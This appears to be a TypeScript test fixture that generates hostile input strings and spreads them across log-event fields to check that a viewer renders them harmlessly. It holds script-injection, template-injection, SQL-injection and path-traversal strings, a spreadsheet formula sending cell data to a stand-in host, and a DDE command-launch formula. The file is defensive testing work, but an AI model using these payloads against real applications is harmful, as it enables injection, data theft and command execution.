import { fields } from '../src/contract/fields.ts';

const image = `<img src=x onerror="window.pwned=1">`;

/** Values that somebody would send to break a page, a name a kind. Nothing of them may act, hide or turn anything. */
export const hostile = {
  image,
  script: '<script>window.pwned=1</script>',
  svg: `"><svg/onload="window.pwned=1">`,
  frame: `'><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  base: '</title></style></textarea><base href="https://elsewhere.invalid/"><link rel=prefetch href=//elsewhere.invalid>',
  click: `" autofocus onfocus="window.pwned=1" style="position:fixed;inset:0" x="`,
  link: 'javascript:window.pwned=1',
  data: 'data:text/html,<script>opener.pwned=1</script>',
  prototype: '__proto__',
  constructing: 'constructor',
  braces: '{{7*7}}{{constructor.constructor("window.pwned=1")()}}',
  dollar: '${7*7} $& $1 $` #{7*7} <%= 7*7 %>',
  formula: `=HYPERLINK("https://elsewhere.invalid?"&A1,"open")`,
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3;=1+1',
  at: '@SUM(1;2)',
  tab: '\t=1+1',
  sql: `'; DROP TABLE events; --`,
  quotes: `"'\`“”‘’«»\\"`,
  controls: 'a\u0000b\u0007c\u0008\u007fd\u0085e\r\nf\u2028g',
  turned: '\u202elive\u202c \u2066\u2067x\u2069 \u200f',
  hidden: 'a\u200bd\u00admi\u2060n\ufeff \u{e0041}\u180e',
  host: 'evil.elsewhere.invalid:443/path?query#fragment',
  up: '../../../etc/passwd',
  windows: String.raw`..\..\C:\%2e%2e%2f`,
  encoded: '%3Cscript%3E%00%2F%25',
  terminal: '\u001b[2J\u001b]0;title\u0007\u009b31m',
  alike: 'аdmin＠ехаmple．org',
  stacked: `Z${'\u0301'.repeat(60)}`,
  wide: 'W'.repeat(3_000),
  sign: '‹U+202E›␣↵',
  null: 'null',
};

/** Ids that a path, a query or a router would read as something else. */
export const pathLike: readonly string[] = [
  '..',
  '.',
  '/',
  '//elsewhere.invalid',
  '%2F',
  '?',
  '#',
  '\\',
  '=',
  'histogram',
  image,
];

/** An id under which all is linked that belongs together. */
export const id = (of: string): string => `${of}/../<marquee onclick=1>\u202e&?#%2F\\'"`;

const values = Object.values(hostile);

/** The same as names of properties: no longer than 256 bytes, and all but the one that is refused. */
export const hostileNames = values.map((value) => (value === '__proto__' ? 'toString' : value.slice(0, 100)));

/** Every property has every value in one of these events, and so has an extra, which it names as well. */
const rotated = values.map((extra, row) => ({
  ...Object.fromEntries(fields.map(({ name }, column) => [name, values[(row + column) % values.length]])),
  [hostileNames[row] ?? '']: extra,
  nested: { [extra]: [extra, { [extra]: extra }] },
}));

const linked = {
  request_id: id('request'),
  session: id('session'),
  trace_id: id('trace'),
  user_id: id('user'),
  source_ip: id('address'),
};

/** The events, as a bulk body has them. */
export const hostileEvents = [
  ...rotated.map((event, index) => ({
    unique_id: `any-${index}`,
    event: { time: `2026-03-18T09:00:${String(index).padStart(2, '0')}Z`, ...event },
  })),
  ...rotated.map((event, index) => ({
    unique_id: `linked-${index}`,
    event: { time: `2026-03-18T09:10:${String(index).padStart(2, '0')}Z`, ...event, ...linked },
  })),
  ...pathLike.map((text, index) => ({
    unique_id: `path-${index}`,
    event: {
      time: `2026-03-18T09:20:${String(index).padStart(2, '0')}Z`,
      event_name: 'Token',
      result: 'Failure',
      ...Object.fromEntries(Object.keys(linked).map((name) => [name, text])),
      user_agent: index === 0 ? `Mozilla/5.0 ${image.repeat(1_600)}` : 'curl/8.0',
    },
  })),
];
